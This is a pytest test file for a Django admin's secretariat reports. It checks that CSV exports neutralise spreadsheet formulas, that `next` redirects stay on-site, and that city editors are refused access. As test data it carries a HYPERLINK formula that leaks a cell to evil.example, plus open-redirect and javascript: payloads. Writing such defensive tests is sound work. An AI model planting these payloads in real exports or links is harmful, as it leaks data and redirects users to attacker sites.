"""What the secretariat's admin views share: CSV exports that cannot carry a formula, `next`
redirects that stay on the site, one 403 for everyone else."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.test import RequestFactory

from casestudies.models import CaseStudyPage, PracticeReview
from cities.models import CityPage
from exchange.models import ContactMessage
from portal.redirects import safe_next_url
from portal.spreadsheets import spreadsheet_safe
from portal.tests.helpers import english

pytestmark = pytest.mark.django_db

User = get_user_model()
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def csv_rows(response):
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    return list(csv.DictReader(io.StringIO(body)))


@pytest.fixture
def secretariat(client, two_factor_login):
    two_factor_login(client, User.objects.get(username="secretariat"))
    return client


@pytest.fixture
def formula_city():
    """Aizuwakamatsu, retitled by a city editor with a spreadsheet formula, with one question
    received about one of its case studies."""
    city = english(CityPage, "aizuwakamatsu")
    CityPage.objects.filter(pk=city.pk).update(title=FORMULA)
    page = CaseStudyPage.objects.live().filter(city=city).first()
    ContactMessage.objects.create(
        case_study=page,
        translation_key=page.translation_key,
        sender_name="Lan",
        sender_email="lan@example.org",
        message="How did you start?",
        routed_to="contact",
    )
    return city


@pytest.mark.parametrize(
    "report, column",
    [
        ("/admin/reports/case-studies-per-city/", "City"),
        ("/admin/reports/stale-case-studies/", "City"),
        ("/admin/reports/contact-messages/", "City"),
    ],
)
def test_a_formula_in_a_title_is_exported_as_text(secretariat, formula_city, report, column):
    rows = csv_rows(secretariat.get(report, {"export": "csv"}))

    cells = [row[column] for row in rows]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert "Bangkok" in cells or report.endswith("contact-messages/")  # plain text left alone
    numbers = [value for row in rows for name, value in row.items() if name != column and value.isdigit()]
    assert numbers  # counts are still plain numbers, without an apostrophe
    xlsx = secretariat.get(report, {"export": "xlsx"})
    assert xlsx.status_code == 200 and "spreadsheetml" in xlsx["Content-Type"]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_sign_is_neutralised(sign):
    assert spreadsheet_safe(f"{sign}1+1") == f"'{sign}1+1"
    assert spreadsheet_safe("Da Nang") == "Da Nang"


@pytest.mark.parametrize(
    "next_url, safe",
    [
        ("/admin/pages/3/", True),
        ("/admin/pages/3/?p=2", True),
        ("http://testserver/admin/", True),
        ("/\\evil.example", False),
        ("//evil.example", False),
        ("https://evil.example/", False),
        ("javascript:alert(1)", False),
        ("", False),
    ],
)
def test_next_stays_on_the_site(next_url, safe):
    request = RequestFactory().post("/", {"next": next_url})
    assert safe_next_url(request, "/default/") == (next_url if safe else "/default/")


def test_reviewed_practice_refuses_to_redirect_off_the_site(secretariat):
    page = english(CaseStudyPage, "smart-city-aizuwakamatsu")
    url = f"/admin/case-studies/{page.pk}/reviewed-practice/"
    edit = f"/admin/pages/{page.pk}/edit/"

    response = secretariat.post(url, {"note": "Checked.", "next": "/\\evil.example"})
    assert response.status_code == 302 and response["Location"] == edit
    assert PracticeReview.objects.filter(translation_key=page.translation_key).exists()
    form = secretariat.get(url, {"next": "//evil.example"})
    assert "evil.example" not in form.content.decode()  # not carried into the form either

    response = secretariat.post(f"{url}remove/", {"next": "/\\evil.example"})
    assert response["Location"] == edit
    response = secretariat.post(url, {"note": "Checked again.", "next": f"/admin/pages/{page.city_id}/"})
    assert response["Location"] == f"/admin/pages/{page.city_id}/"  # a page of the site is kept


def test_mark_reviewed_refuses_to_redirect_off_the_site(client):
    page = english(CaseStudyPage, "smart-city-aizuwakamatsu")
    client.force_login(User.objects.get(username="aizuwakamatsu-editor"))

    response = client.post(f"/admin/case-studies/{page.pk}/mark-reviewed/", {"next": "/\\evil.example"})
    assert response.status_code == 302 and response["Location"] == f"/admin/pages/{page.pk}/edit/"


@pytest.mark.parametrize(
    "url",
    [
        "/admin/reports/case-studies-per-city/",
        "/admin/reports/stale-case-studies/",
        "/admin/reports/contact-messages/",
    ],
)
def test_the_reports_give_city_editors_a_plain_403_and_no_menu_item(client, url):
    client.force_login(User.objects.get(username="aizuwakamatsu-editor"))
    assert client.get(url).status_code == 403
    assert client.get(url, {"export": "csv"}).status_code == 403
    assert url not in client.get("/admin/").content.decode()


def test_the_secretariat_sees_the_reports_in_the_menu(secretariat):
    dashboard = secretariat.get("/admin/").content.decode()
    for url in ("case-studies-per-city", "stale-case-studies", "contact-messages"):
        assert f"/admin/reports/{url}/" in dashboard
